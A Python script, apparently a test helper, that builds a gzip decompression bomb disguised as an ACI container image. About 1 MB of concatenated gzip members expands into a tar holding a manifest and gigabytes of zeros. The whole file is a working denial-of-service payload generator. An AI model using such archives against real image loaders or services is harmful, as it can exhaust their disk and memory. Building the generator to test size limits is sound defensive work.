#!/usr/bin/env python3
"""Writes a gzip "decompression bomb" shaped as an ACI, quickly.

    make_bomb.py OUTPUT MANIFEST_FILE [MEBIBYTES]

The uncompressed stream is a valid tar: `manifest` (the given file) and `rootfs/zero`, a regular
file of MEBIBYTES (default 1024) MiB of zeros. It is written as concatenated gzip members (one
for the headers, one 64 MiB member of zeros compressed once and repeated, one for the end of the
archive), so 1 GiB of zeros costs about 1 MB and a fraction of a second to make.
"""
import io
import sys
import tarfile
import zlib


def gzip_member(data):
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    return compressor.compress(data) + compressor.flush()


def main():
    output, manifest_file = sys.argv[1], sys.argv[2]
    mebibytes = int(sys.argv[3]) if len(sys.argv) > 3 else 1024
    with open(manifest_file, "rb") as f:
        manifest = f.read()
    head = io.BytesIO()
    info = tarfile.TarInfo("manifest")
    info.size = len(manifest)
    info.mode = 0o644
    head.write(info.tobuf(format=tarfile.USTAR_FORMAT))
    head.write(manifest + b"\0" * ((512 - len(manifest) % 512) % 512))
    directory = tarfile.TarInfo("rootfs")
    directory.type = tarfile.DIRTYPE
    directory.mode = 0o755
    head.write(directory.tobuf(format=tarfile.USTAR_FORMAT))
    zero = tarfile.TarInfo("rootfs/zero")
    zero.size = mebibytes << 20
    zero.mode = 0o644
    head.write(zero.tobuf(format=tarfile.USTAR_FORMAT))
    chunk = 64
    zeros = gzip_member(b"\0" * (chunk << 20))
    with open(output, "wb") as out:
        out.write(gzip_member(head.getvalue()))
        remaining = mebibytes
        while remaining >= chunk:
            out.write(zeros)
            remaining -= chunk
        # The rest of the file's zeros and the two zero blocks ending the archive.
        out.write(gzip_member(b"\0" * ((remaining << 20) + 1024)))


if __name__ == "__main__":
    main()
